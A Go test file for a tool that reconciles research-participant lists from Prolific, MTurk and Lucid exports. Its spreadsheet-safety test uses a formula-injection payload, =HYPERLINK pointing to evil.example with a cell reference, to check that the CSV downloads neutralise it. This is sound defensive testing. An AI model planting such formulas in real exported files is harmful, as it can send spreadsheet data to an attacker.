package reconcile

import (
	"encoding/csv"
	"strings"
	"testing"
)

func TestParseDetectsThePlatformFromTheHeader(t *testing.T) {
	for _, c := range []struct{ text, want string }{
		{"Submission id,Participant id,Status\ns1,P1,APPROVED\n", Prolific},
		{"session_id,participant_id,status,entered_code\ns1,P1,APPROVED,X\n", Prolific}, // Prolific's older export
		{"\ufeffHITId,AssignmentId,WorkerId,Answer.surveycode\nH,A,W,C\n", MTurk},
		{"RID\nr1\n", Lucid},
		{"Participant id\tStatus\nP1\tAPPROVED\n", Prolific}, // tab-separated
	} {
		tb, err := parse(c.text, "")
		if err != nil || tb.Platform != c.want || len(tb.Rows) != 1 {
			t.Errorf("%q: %v %+v", c.text, err, tb)
		}
	}
}

func TestParseRefusesWithAClearMessage(t *testing.T) {
	for _, c := range []struct{ text, platform, has string }{
		{"", "", "empty"},
		{"P1\nP2\n", "", "cannot tell the platform"},
		{"\xff\xfeP\x001\x00", "", "UTF-16"},
		{"Participant id\n", "", "no lines below"},
		{"Participant id\n\"P1\n", "", "Line 2 could not be read"},
		{strings.Repeat("x\n", MaxRows+1), "lucid", "more than"},
	} {
		_, err := parse(c.text, c.platform)
		if err == nil || !strings.Contains(err.Error(), c.has) {
			t.Errorf("%.30q: %v, want %q", c.text, err, c.has)
		}
	}
}

func TestClassifyPicksTheBestParticipantOfAnID(t *testing.T) {
	tb, _ := parse("W1\nW2\nW1\n", MTurk)
	res := ClassifyStudy(tb, []Participant{
		{UserID: "a", PlatformIDs: map[string]string{"workerId": "W1"}, Stage: "feed"},
		{UserID: "b", PlatformIDs: map[string]string{"workerId": "W1"}, Stage: "completed", CompletedAt: 5, CompletionCode: "K"},
		{UserID: "t", PlatformIDs: map[string]string{"workerId": "W2"}, Stage: "completed", CompletedAt: 5, IsTest: true},
	}, nil)
	if l := res.Lines[0]; l.Class != Completed || l.UserID != "b" || l.Registered != 2 || !strings.Contains(l.Note, "2 times") {
		t.Errorf("W1: %+v", l)
	}
	if res.Lines[1].Class != Test || res.Lines[2].Class != Duplicate {
		t.Errorf("W2, W1 again: %+v", res.Lines[1:])
	}
	f, ok := PlatformFile(tb, res)
	if !ok || f.CSV != "WorkerId,Approve,Reject\nW1,x,\nW2,,\nW1,,This worker already submitted this study.\n" {
		t.Errorf("plain MTurk list file: %q", f.CSV)
	}
}

// FuzzParse: any text either parses into rows that each carry an id, or is refused with
// an InputError; never a panic. Classify and the files take whatever parses.
func FuzzParse(f *testing.F) {
	f.Add("Submission id,Participant id,Status\ns1,P1,APPROVED\n", "")
	f.Add("\"HITId\",\"WorkerId\",\"Answer.code\",\"Approve\"\n\"H\",\"W\",\"c\",\"\"\n", "mturk")
	f.Add("rid-1\r\nrid-2\r\n", "lucid")
	f.Add("Participant id\n\"unterminated\n", "prolific")
	f.Fuzz(func(t *testing.T, text, platform string) {
		tb, err := parse(text, platform)
		if err != nil {
			if _, ok := err.(*InputError); !ok {
				t.Fatalf("not an InputError: %v", err)
			}
			return
		}
		for _, r := range tb.Rows {
			if tb.field(r, tb.idCol) == "" {
				t.Fatalf("row %d without id", r.Line)
			}
		}
		res := ClassifyStudy(tb, []Participant{{UserID: "u", PlatformIDs: map[string]string{"PROLIFIC_PID": "P1", "workerId": "W", "RID": "rid-1"}, CompletedAt: 1, CompletionCode: "c"}}, nil)
		Report(res)
		PlatformFile(tb, res)
	})
}

// TestDownloadsAreSpreadsheetSafe: a formula in a participant id, a submission id, a status,
// a submitted code or a worker's answer reaches none of the three files as a formula (each
// gets the exports' leading apostrophe), and ordinary values are unchanged.
func TestDownloadsAreSpreadsheetSafe(t *testing.T) {
	const evil = `=HYPERLINK("https://evil.example/?"&A1,"click")`
	csvEvil := `"` + strings.ReplaceAll(evil, `"`, `""`) + `"`
	tb, err := parse("Submission id,Participant id,Status,Completion code\n"+
		csvEvil+",P1,"+csvEvil+",C0DE\n"+
		"s2,"+csvEvil+",AWAITING REVIEW,"+csvEvil+"\n", "")
	if err != nil {
		t.Fatal(err)
	}
	people := []Participant{
		{UserID: "u1", PlatformIDs: map[string]string{"PROLIFIC_PID": "P1"}, Stage: "completed", CompletedAt: 5, CompletionCode: "C0DE"},
		{UserID: "+u2", PlatformIDs: map[string]string{"PROLIFIC_PID": evil}, Stage: "completed", CompletedAt: 5, CompletionCode: "@SUM(A1)"},
	}
	res := ClassifyStudy(tb, people, nil)
	files := []Download{Report(res)}
	f, _ := PlatformFile(tb, res)
	files = append(files, f)
	mt, err := parse("HITId,AssignmentId,WorkerId,Answer.code,Approve,Reject\nH,A1,"+csvEvil+","+csvEvil+",,\nH,A2,W2,-2,,\n", "")
	if err != nil {
		t.Fatal(err)
	}
	res = ClassifyStudy(mt, []Participant{{UserID: "w", PlatformIDs: map[string]string{"workerId": evil}, Stage: "completed", CompletedAt: 5}}, nil)
	f, _ = PlatformFile(mt, res)
	files = append(files, f)
	for _, f := range files {
		recs, err := csv.NewReader(strings.NewReader(f.CSV)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", f.Filename, err)
		}
		found := false
		for _, rec := range recs {
			for _, v := range rec {
				if v != "" && strings.ContainsRune("=+@\t\r", rune(v[0])) || (strings.HasPrefix(v, "-") && v != "-2") {
					t.Errorf("%s: cell %q would run as a formula", f.Filename, v)
				}
				if v == "'"+evil {
					found = true
				}
			}
		}
		if !found {
			t.Errorf("%s: the hostile value is not there, neutralised:\n%s", f.Filename, f.CSV)
		}
	}
	if !strings.Contains(files[0].CSV, ",u1,") || !strings.Contains(files[0].CSV, ",'+u2,") || !strings.Contains(files[0].CSV, "'@SUM(A1)") {
		t.Errorf("report:\n%s", files[0].CSV)
	}
	if !strings.Contains(files[2].CSV, "\nH,A2,W2,-2,,") {
		t.Errorf("a plain number changed in the MTurk file:\n%s", files[2].CSV)
	}
}

// parse reads a pasted list as the reconcile endpoint does, without a study platform to
// fall back on.
func parse(text, platform string) (*Table, error) {
	return Read(strings.NewReader(text), platform, "")
}
